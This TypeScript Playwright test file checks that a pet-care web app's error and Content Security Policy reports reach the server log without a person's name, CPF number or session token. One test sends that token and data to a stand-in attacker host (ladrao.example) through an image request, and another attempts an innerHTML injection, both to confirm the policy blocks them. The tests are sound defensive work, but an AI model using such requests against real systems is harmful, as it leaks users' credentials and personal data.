// What goes wrong in the browser, and a line in the server's log for each: a crash, an error that nobody caught, what the
// policy refused. None has a word of the person.
import type { Page } from "playwright-core";
import * as assert from "uvu/assert";
import { builtSite, journeySuite, open, waitUntilScreenLoaded } from "./browser.ts";
import { eventually, turnOnDataSaverFromNextLoad } from "./steps.ts";

const reports = journeySuite("Error reports");

const original = console.log;
const lines: string[] = [];

/** Runs with an empty log, and collects what the server writes. */
async function logged(run: () => Promise<void>): Promise<void> {
  lines.length = 0;
  console.log = (line: string) => void lines.push(line);
  try {
    await run();
  } finally {
    console.log = original;
  }
}

async function waitForLine(count: number): Promise<void> {
  await eventually(`line ${count} is there`, () => Promise.resolve(lines.length >= count));
}

/** These fields of each line. */
function told(...fields: string[]): string[] {
  return lines.map((line) => fields.map((field) => JSON.parse(line)[field]).join(" "));
}

/** Of the person, in the address, in the messages of the errors and on the device. */
const NAMED = "/pets?nome=Maria&cpf=52998224725";

function assertNobody(token: string): void {
  assert.ok(token.length > 20);
  for (const secret of ["Maria", "52998224725", token]) assert.not.match(lines.join(), secret);
}

const tokenOf = (page: Page) => page.evaluate(() => localStorage.getItem("vet:token")!);

/** Lets 'Meus Pets' crash where it draws its button, with the person in the message. */
async function spoilPets(page: Page): Promise<void> {
  await page.route("**/assets/screens-*.js", async (route) => {
    const answer = await route.fetch();
    const text = await answer.text();
    const crash = '(()=>{throw new TypeError("Maria 52998224725 "+localStorage["vet:token"])})()';
    const spoiled = text.replaceAll(/(["`])Adicionar Pet\1/g, crash);
    assert.is.not(spoiled, text);
    await route.fulfill({ response: answer, body: spoiled });
  });
}

reports(
  "a screen that crashes makes one line in the server's log, without a person",
  () =>
    logged(async () => {
      const { page, url, errors } = await open({
        path: null,
        as: "maria",
        environment: { receivesErrorReports: true },
      });
      await spoilPets(page);
      await page.goto(url + NAMED);
      await page.getByText("Algo deu errado nesta tela.").waitFor();
      await waitForLine(1);
      // An error of another kind, so that a second line of the crash would show.
      const token = await tokenOf(page);
      await page.evaluate((secret) => void Promise.reject(secret), token);
      await waitForLine(2);
      assert.equal(told("event", "screen", "error"), [
        "client-error /pets TypeError",
        "client-error /pets string",
      ]);
      const { stack, browser } = JSON.parse(lines[0]);
      assert.match(stack[0], /^screens-\w{8}\.js:\d+:\d+$/);
      assert.match(browser, /^Chrome \d+$/);
      assertNobody(token);
      errors.length = 0;
    }),
);

reports(
  "an error that nobody caught is one line, wherever it comes from",
  () =>
    logged(async () => {
      const { page, errors } = await open({
        path: NAMED,
        as: "maria",
        environment: { receivesErrorReports: true },
      });
      await waitUntilScreenLoaded(page);
      const token = await tokenOf(page);
      await page.evaluate((secret) =>
        void setTimeout(() => {
          throw new RangeError(secret);
        }), token);
      await waitForLine(1);
      await page.evaluate((secret) => void Promise.reject(new SyntaxError(secret)), token);
      await waitForLine(2);
      await page.evaluate((secret) => {
        document.addEventListener("click", () => {
          throw new URIError(secret);
        }, { once: true });
        document.body.click();
      }, token);
      await waitForLine(3);
      assert.equal(told("event", "screen", "error"), [
        "client-error /pets RangeError",
        "client-error /pets SyntaxError",
        "client-error /pets URIError",
      ]);
      assertNobody(token);
      errors.length = 0;
    }),
);

reports(
  "costs nothing until there is an error, and then little, also with Save-Data",
  () =>
    logged(async () => {
      const { page, url, errors } = await open({
        path: null,
        as: "maria",
        environment: { receivesErrorReports: true },
      });
      await turnOnDataSaverFromNextLoad(page);
      const asked: string[] = [];
      page.on("request", (request) => asked.push(new URL(request.url()).pathname));
      await page.goto(`${url}/pets`);
      await waitUntilScreenLoaded(page);
      await page.getByRole("link", { name: "Início" }).click();
      await waitUntilScreenLoaded(page);
      const { files } = await builtSite();
      const script = files.find(({ path }) => path.startsWith("/assets/errors-"))!;
      const isForReports = (path: string) => [script.path, "/erros"].includes(path);
      assert.equal(asked.filter(isForReports), []);
      await page.evaluate(() => void Promise.reject(new RangeError()));
      await waitForLine(1);
      assert.equal(asked.filter(isForReports), [script.path, "/erros"]);
      assert.ok(script.encodings.br!.length <= 1.5 * 1024);
      errors.length = 0;
    }),
);

// Only by HTTPS, and not at all in the headless shell: Chromium 156.
reports("what the policy refused is one line, as Chromium sends it", () =>
  logged(async () => {
    const { page, policyViolations, foreignRequests, errors } = await open({
      path: NAMED,
      as: "maria",
      environment: { receivesErrorReports: true },
      https: true,
      wholeBrowser: true,
    });
    await waitUntilScreenLoaded(page);
    const token = await tokenOf(page);
    await page.evaluate((secret) => {
      new Image().src = `https://ladrao.example/?Maria=52998224725&token=${secret}`;
    }, token);
    await waitForLine(1);
    // Another one, so that a second line of the first would show.
    await page.evaluate((secret) => {
      try {
        document.body.innerHTML = `<b>Maria 52998224725 ${secret}</b>`;
      } catch {
        // Trusted Types refuse the text.
      }
    }, token);
    await waitForLine(2);
    assert.equal(told("event", "screen", "directive", "blocked"), [
      "csp-report /pets img-src https",
      "csp-report /pets require-trusted-types-for trusted-types-sink",
    ]);
    assertNobody(token);
    // Chromium logs what Trusted Types refuse without the word policy.
    assert.equal([policyViolations.length, errors.length], [1, 1]);
    policyViolations.length = foreignRequests.length = errors.length = 0;
  }));

reports.run();
